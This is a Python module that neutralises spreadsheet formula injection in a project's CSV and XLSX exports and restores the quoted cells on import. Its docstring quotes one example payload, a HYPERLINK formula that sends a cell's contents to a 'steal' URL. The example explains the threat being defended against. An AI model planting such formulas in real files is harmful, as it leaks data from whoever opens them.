"""Text cells a spreadsheet cannot run (OWASP's CSV-injection guidance), and the same text read back.

A description typed as ``=HYPERLINK("http://…/steal?d="&A1,"Click for source")`` is a formula to Excel or
LibreOffice when a reader opens an export. So every CSV Marsad writes (canonical, ACLED, the rejects file)
prefixes a single quote to a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return, and XLSX writes such cells as text, never as formulas.

Numbers are not touched (``-35.2`` stays a number), nor is text that is only a number. A cell that starts
with quotes before such a character gets one more quote, so ``restored`` undoes ``neutralised`` exactly and a
round trip (export, then import) gives back what was exported; readers of CSV call ``restored`` on each cell.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
_NUMBER = re.compile(r"^[-+]?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?$")


def runs_as_formula(text: str) -> bool:
    """Whether a spreadsheet could take this text (after any quotes Marsad added) for a formula."""
    bare = text.lstrip(QUOTE)
    return bare.startswith(FORMULA_STARTS) and not _NUMBER.match(bare)


def neutralised(value: object) -> object:
    """The value as a CSV cell: text that would run as a formula gets a leading quote; the rest is as it was."""
    if isinstance(value, str) and runs_as_formula(value):
        return QUOTE + value
    return value


def restored(text: str) -> str:
    """The text ``neutralised`` was given, from the cell it wrote."""
    if text.startswith(QUOTE) and runs_as_formula(text[1:]):
        return text[1:]
    return text


class QuoteWatch:
    """The lines of CSV text for ``csv.reader``, noting when one holds a quote, so that only the rare record
    with one pays for ``restored`` on its cells (a million rows are read without it)."""

    def __init__(self, lines: Iterator[str]) -> None:
        self.lines = lines
        self.seen = False

    def __iter__(self) -> QuoteWatch:
        return self

    def __next__(self) -> str:
        line = next(self.lines)
        if QUOTE in line:
            self.seen = True
        return line

    def restore(self, cells: list[str]) -> list[str]:
        """The cells of the record just read, as they were before ``neutralised``."""
        if not self.seen:
            return cells
        self.seen = False
        return [restored(cell) for cell in cells]
